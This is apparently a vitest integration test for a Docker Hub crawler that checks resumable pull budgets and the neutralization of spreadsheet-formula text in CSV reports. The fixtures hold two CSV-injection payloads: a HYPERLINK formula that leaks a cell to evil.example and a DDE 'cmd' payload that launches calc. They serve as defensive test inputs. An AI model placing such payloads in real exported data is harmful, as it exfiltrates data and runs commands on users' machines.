/**
 * A docker.io crawl as on the real Hub, offline: the Hub web API is the loopback fake (the only thing
 * with no open-source server), `--registry-mirror` is the real registry holding the same digests.
 * Proves the pull budget ends a run resumably (exit 3), and that Hub-supplied text that would run as
 * a spreadsheet formula is neutralized in the report CSV.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { debianBaseEntries } from '../../scripts/lib/debian-fixtures.js';
import { type BuiltImage, buildImage } from '../../scripts/lib/image-builder.js';
import { pushImage } from '../../scripts/lib/push.js';
import { type RunningRegistry, startRegistry } from '../../scripts/lib/registry.js';
import { type FakeHub, fakeHubTagFor, startFakeHub } from '../helpers/fake-hub.js';
import { buildCliOnce, removeTempDirs, runCli, settle, tempDir } from './helpers/cli.js';
import { parseCsv, pythonCsvRecords } from './helpers/csv.js';
import { recordsToObjects } from './helpers/demo.js';

/** What a hostile (or compromised) Hub listing could put in a tag's push date. */
const FORMULA_PUSHED = '=HYPERLINK("https://evil.example/?leak="&A1,"open")';
const AT_PUSHED = "@SUM(1+1)*cmd|' /C calc'!A0";

let registry: RunningRegistry;
let hub: FakeHub;
let image: BuiltImage;
let dir: string;
let db: string;
let args: string[];

beforeAll(async () => {
  dir = tempDir('hub');
  db = join(dir, 'hub.sqlite');
  const setup = async () => {
    registry = await startRegistry({ auth: 'none', installIfMissing: true });
    image = await buildImage({
      layers: [{ entries: debianBaseEntries({ codename: 'sid', liblzmaVersion: '5.6.1-1' }) }],
    });
    await pushImage(registry, 'evil/app', '1.0', image);
    await pushImage(registry, 'evil/app', '2.0', image);
    hub = await startFakeHub({
      repos: [
        {
          namespace: 'evil',
          name: 'app',
          pullCount: 1234,
          tags: [fakeHubTagFor('1.0', image, FORMULA_PUSHED), fakeHubTagFor('2.0', image, AT_PUSHED)],
        },
      ],
    });
  };
  await settle(setup(), buildCliOnce());
  args = ['crawl', '--repo', 'evil/app', '--hub-api', hub.url, '--registry-mirror', registry.url, '--db', db];
}, 180_000);

afterAll(async () => {
  await Promise.allSettled([registry?.stop(), hub?.stop()]);
  removeTempDirs();
});

describe('a docker.io crawl through --hub-api and --registry-mirror', () => {
  it('--max-pulls 0 stops the run before the first counted pull, exits 3 and says how to resume', async () => {
    const r = await runCli([...args, '--max-pulls', '0', '--log-level', 'warn']);
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(/hubcrawl: run 1 stopped early: [^\n]+resume[^\n]*\n/);
    expect(r.stdout).toMatch(/^run 1 aborted: 0 images/);
  });

  it('the same command without the budget resumes run 1 and completes it', async () => {
    const r = await runCli([...args, '--quiet']);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^run 1 completed \(resumed\): 1 image, 1 layer analyzed/);
  });

  it('the report neutralizes Hub text that starts a formula (= and @) with a leading quote', async () => {
    const out = join(dir, 'report.csv');
    const r = await runCli(['report', '--db', db, '--out', out]);
    expect(r.code).toBe(0);
    const rows = recordsToObjects(await pythonCsvRecords(out));
    const pushed = new Map(rows.map((row) => [row.tag, row.last_pushed]));
    expect(pushed.get('1.0')).toBe(`'${FORMULA_PUSHED}`);
    expect(pushed.get('2.0')).toBe(`'${AT_PUSHED}`);
    // One image reached by two tags: one row per tag for each of its three findings.
    expect(rows.map((row) => `${row.tag} ${row.rule_id}`).sort()).toEqual(
      ['1.0', '2.0'].flatMap((tag) =>
        ['dpkg-liblzma5-affected', 'dpkg-liblzma5-payload-expected', 'dpkg-xz-utils-affected'].map(
          (rule) => `${tag} ${rule}`,
        ),
      ),
    );
    for (const row of rows) {
      expect(row).toMatchObject({
        registry: 'docker.io',
        repository: 'evil/app',
        manifest_digest: image.digest,
        pull_count: '1234',
      });
      // No cell of the report may start a formula.
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    // Our strict RFC 4180 reader agrees with python3 on the quoted cells.
    expect(recordsToObjects(parseCsv(readFileSync(out, 'utf8')).records)).toEqual(rows);
  });

  it('JSON lines keep the Hub text verbatim (JSON is not opened by spreadsheets)', async () => {
    const r = await runCli(['report', '--db', db, '--format', 'jsonl']);
    expect(r.code).toBe(0);
    const rows = r.stdout
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(new Set(rows.map((row) => row.last_pushed))).toEqual(new Set([FORMULA_PUSHED, AT_PUSHED]));
  });
});
